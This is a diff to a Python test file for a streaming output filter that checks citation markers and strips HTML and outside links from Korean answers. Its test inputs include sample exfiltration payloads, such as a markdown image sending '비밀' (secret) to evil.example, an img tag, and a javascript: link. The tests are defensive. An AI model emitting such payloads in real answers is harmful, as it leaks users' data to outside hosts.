@@ -80,12 +80,14 @@ def filtered(text: str, pieces: int, hosts: frozenset[str] = frozenset()) -> tup
     ("text", "shown", "cited"),
     [
         ("15일입니다 [1]. 신청은 [2][1].", "15일입니다 [1]. 신청은 [2][1].", [1, 2]),
-        ("15일입니다 [7]. 신청 [1, 9].", "15일입니다 . 신청 [1].", [1]),
-        ("[ 2 ] 참고 [0] [12]", "[2] 참고  ", [2]),
+        ("15일입니다 [7]. 신청 [1, 9].", "15일입니다. 신청 [1].", [1]),
+        ("[ 2 ] 참고 [0] [12]", "[2] 참고", [2]),
         ("[별표 1] 참고 [1]", "[별표 1] 참고 [1]", [1]),
         ("![x](https://evil.example/?q=비밀) 끝", " 끝", []),
         ("[여기](https://evil.example/a b) 끝", "여기 끝", []),
-        ("[여기](javascript:alert(1)) 끝", "여기) 끝", []),
+        ("[여기](javascript:alert(1)) 끝", "여기 끝", []),
+        ("[여기][1] 와 [1]: www.evil.example/x", "[여기][1] 와 [1]: (링크 생략)", [1]),
+        ("[[1]] 그리고 <b>굵게</b>", "[[1]] 그리고 굵게", [1]),
         ("주소 https://evil.example/x 참고", "주소 (링크 생략) 참고", []),
         ("주소 https://evil.example/x", "주소 (링크 생략)", []),
         ('<img src="https://evil.example/x"> 끝', " 끝", []),
@@ -109,9 +111,9 @@ def test_links_to_our_own_hosts_stay(pieces: int) -> None:
 
 def test_text_is_not_held_back_longer_than_a_word() -> None:
     out = OutputFilter(frozenset({1}), frozenset())
-    assert out.feed("연차휴가는 15일") == "연차휴가는 "
-    assert out.feed("입니다 [1") == "15일입니다 "
-    assert out.feed("]. ") == "[1]. "
+    assert out.feed("연차휴가는 15일") == "연차휴가는"
+    assert out.feed("입니다 [1") == " 15일입니다"
+    assert out.feed("]. ") == " [1]."
 
 
 def test_a_bracket_that_never_closes_does_not_hold_the_answer_for_ever() -> None:
